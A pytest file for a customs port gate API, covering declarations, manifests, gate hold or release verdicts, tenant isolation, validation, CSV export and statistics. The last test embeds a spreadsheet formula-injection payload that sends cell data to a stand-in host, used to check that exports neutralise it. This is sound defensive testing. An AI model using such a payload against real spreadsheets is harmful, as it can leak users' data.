"""p11 over the API: declare → release → manifest → gate verdict; holds with every mismatch;
resolution by customs; isolation between enterprises; bad input; CSV; statistics."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from stdnum import iso6346

from tests.conftest import ApiClients

API = "/api/zone-port-gate"
CONTAINER = "CSQU305438" + iso6346.calc_check_digit("CSQU305438")
UNITS = [
    {"number": "PMC12345CV", "kind": "uld", "seals": ["ZZ1000001"]},
    {"number": "PAG54321CV", "kind": "uld", "seals": ["ZZ1000002"]},
]


def _shipment(api: ApiClients, number: str, *, direction: str = "export", **extra: Any) -> str:
    body = {"number": number, "direction": direction, "plate": "豫A12345", "units": UNITS,
            "weight_kg": 8000, "screened": direction == "export", **extra}  # fmt: skip
    made = api.as_("zpg.ent.a").post(f"{API}/declarations", json=body)
    assert made.status_code == 201, made.text
    manifest = {"number": "880" + number[-8:], "declaration_number": number, "flight": "CV9751",
                "units": [u["number"] for u in body["units"]], "weight_kg": 8000}  # fmt: skip
    assert api.as_("zpg.gate").post(f"{API}/manifests", json=manifest).status_code == 201
    return str(made.json()["id"])


def _release(api: ApiClients, declaration_id: str, **body: Any) -> dict[str, Any]:
    done = api.as_("zpg.customs").post(
        f"{API}/declarations/{declaration_id}/instruction", json=body or {"action": "release"}
    )
    assert done.status_code == 200, done.text
    return dict(done.json())


def _gate(client: TestClient, number: str, **changes: Any) -> Any:
    body = {"declaration_number": number, "plate": "豫A12345", "units": UNITS, "weight_kg": 8050}
    return client.post(f"{API}/transactions", json={**body, **changes})


def test_released_export_goes_to_the_apron(zpg: ApiClients) -> None:
    _release(zpg, _shipment(zpg, "461220261124000001"))
    result = _gate(zpg.as_("zpg.gate"), "461220261124000001")
    assert result.status_code == 201, result.text
    tx = result.json()
    assert (tx["verdict"], tx["status"], tx["route"]) == ("release", "released", "apron")
    assert tx["mismatches"] == [] and len(tx["ledger_sha256"]) == 64
    assert any(row["row_id"] == "RT-EXPORT-APRON" for row in tx["facts"]["why"])


def test_every_mismatch_is_listed_and_customs_resolves(zpg: ApiClients) -> None:
    _release(zpg, _shipment(zpg, "461220261124000002"))
    read = [
        {**UNITS[0], "seals": ["ZZ9999999"]},
        {"number": CONTAINER[:-1] + "0", "kind": "container"},
    ]
    held = _gate(zpg.as_("zpg.gate"), "461220261124000002", plate="豫A99999", units=read,
                 weight_kg=9500).json()  # fmt: skip
    assert held["verdict"] == "hold" and held["route"] == "hold_bay"
    rows = {m["row_id"]: m["source"] for m in held["mismatches"]}
    assert rows == {
        "GC-PLATE": "declaration", "GC-CHECK-DIGIT": "gate_reading",
        "GC-UNDECLARED-UNIT": "declaration", "GC-MISSING-UNIT": "declaration",
        "GC-UNMANIFESTED-UNIT": "manifest", "GC-SEAL": "declaration",
        "GC-WEIGHT-DECLARATION": "declaration", "GC-WEIGHT-MANIFEST": "manifest",
    }  # fmt: skip
    assert all(m["citation"] and m["outputs"]["reason_zh"] for m in held["mismatches"])
    url = f"{API}/transactions/{held['id']}/resolve"
    assert zpg.as_("zpg.gate").post(url, json={"action": "clear", "note": "x"}).status_code == 403
    assert zpg.as_("zpg.customs").post(url, json={"action": "clear"}).status_code == 422
    cleared = zpg.as_("zpg.customs").post(url, json={"action": "clear", "note": "checked"})
    assert cleared.json()["status"] == "cleared" and cleared.json()["route"] == "apron"
    again = zpg.as_("zpg.customs").post(url, json={"action": "turn_back", "note": "late"})
    assert again.status_code == 409


def test_import_inspection_sites(zpg: ApiClients) -> None:
    zone = _shipment(zpg, "461220261124000003", direction="import")
    _release(zpg, zone, action="select", site="zone")
    tx = _gate(zpg.as_("zpg.gate"), "461220261124000003").json()
    assert (tx["verdict"], tx["route"]) == ("release", "inspection_zone")
    airport = _shipment(zpg, "461220261124000004", direction="import")
    assert zpg.as_("zpg.customs").post(
        f"{API}/declarations/{airport}/instruction", json={"action": "select"}
    ).status_code == 422  # fmt: skip
    _release(zpg, airport, action="select", site="airport")
    held = _gate(zpg.as_("zpg.gate"), "461220261124000004").json()
    assert [m["row_id"] for m in held["mismatches"]] == ["GC-IMPORT-AIRPORT-INSPECTION"]
    released = _release(zpg, airport, action="release", note="inspected at the airport")
    assert released["status"] == "released"


def test_unknown_declaration_is_held(zpg: ApiClients) -> None:
    tx = _gate(zpg.as_("zpg.gate"), "461299999999999999").json()
    assert [m["row_id"] for m in tx["mismatches"]] == ["GC-NO-DECLARATION", "GC-NO-MANIFEST"]


def test_enterprises_see_only_their_own(zpg: ApiClients) -> None:
    declaration = _shipment(zpg, "461220261124000005")
    _release(zpg, declaration)
    tx = _gate(zpg.as_("zpg.gate"), "461220261124000005").json()
    other = zpg.as_("zpg.ent.b")
    assert other.get(f"{API}/declarations/{declaration}").status_code == 404
    assert other.get(f"{API}/transactions/{tx['id']}").status_code == 404
    assert other.post(f"{API}/declarations/{declaration}/withdraw").status_code == 404
    assert other.get(f"{API}/transactions").json()["total"] == 0
    assert "461220261124000005" not in other.get(f"{API}/transactions.csv").text
    own = zpg.as_("zpg.ent.a")
    assert own.get(f"{API}/transactions/{tx['id']}").status_code == 200
    assert own.get(f"{API}/declarations?q=000005").json()["total"] == 1
    assert zpg.as_("exam.officer").get(f"{API}/declarations/{declaration}").status_code == 404
    assert own.post(f"{API}/transactions", json={}).status_code == 403
    assert own.get(f"{API}/statistics").status_code == 403


def test_bad_input_is_a_problem(zpg: ApiClients) -> None:
    ent = zpg.as_("zpg.ent.a")
    body = {"number": "461220261124000006", "direction": "export", "plate": "豫A12345",
            "units": UNITS, "weight_kg": 8000, "screened": True}  # fmt: skip
    assert ent.post(f"{API}/declarations", json={**body, "weight_kg": -1}).status_code == 422
    assert ent.post(f"{API}/declarations", json={**body, "units": []}).status_code == 422
    imported = {**body, "direction": "import"}
    bad = ent.post(f"{API}/declarations", json=imported)
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "screened"
    assert ent.post(f"{API}/declarations", json=body).status_code == 201
    dup = ent.post(f"{API}/declarations", json=body)
    assert dup.status_code == 409 and dup.headers["content-type"].startswith("application/problem")
    gate = zpg.as_("zpg.gate")
    assert _gate(gate, "461220261124000006", weight_kg=0).status_code == 422
    assert _gate(gate, "461220261124000006", units=[{"number": "x"}]).status_code == 422


def test_csv_and_statistics(zpg: ApiClients) -> None:
    _release(zpg, _shipment(zpg, "461220261124000007"))
    _gate(zpg.as_("zpg.gate"), "461220261124000007")
    gate = zpg.as_("zpg.gate")
    from datetime import datetime
    from zoneinfo import ZoneInfo

    today = datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat()
    volume = {"airport_export_kg": 40_250, "airport_import_kg": 1}
    assert gate.put(f"{API}/volumes/{today}", json=volume).status_code == 200
    assert zpg.as_("zpg.customs").put(f"{API}/volumes/{today}", json=volume).status_code == 403
    csv = gate.get(f"{API}/transactions.csv?q=000007")
    assert csv.status_code == 200 and csv.text.count("\n") == 2 and "apron" in csv.text
    stats = gate.get(f"{API}/statistics?days=1").json()
    assert stats["days"][0]["export_kg"] >= 8050
    assert stats["days"][0]["export_share"] > 0


def test_the_export_never_hands_a_spreadsheet_a_formula(zpg: ApiClients) -> None:
    """A resolution note typed as a formula is exported quoted, so a spreadsheet shows it."""
    _release(zpg, _shipment(zpg, "461220261124000008"))
    held = _gate(zpg.as_("zpg.gate"), "461220261124000008", weight_kg=9500).json()
    assert held["verdict"] == "hold"
    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
    customs = zpg.as_("zpg.customs")
    resolve = {"action": "clear", "note": typed}
    assert customs.post(f"{API}/transactions/{held['id']}/resolve", json=resolve).status_code == 200
    exported = customs.get(f"{API}/transactions.csv?q=000008").text
    [row] = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
    assert row["resolution_note"] == "'" + typed
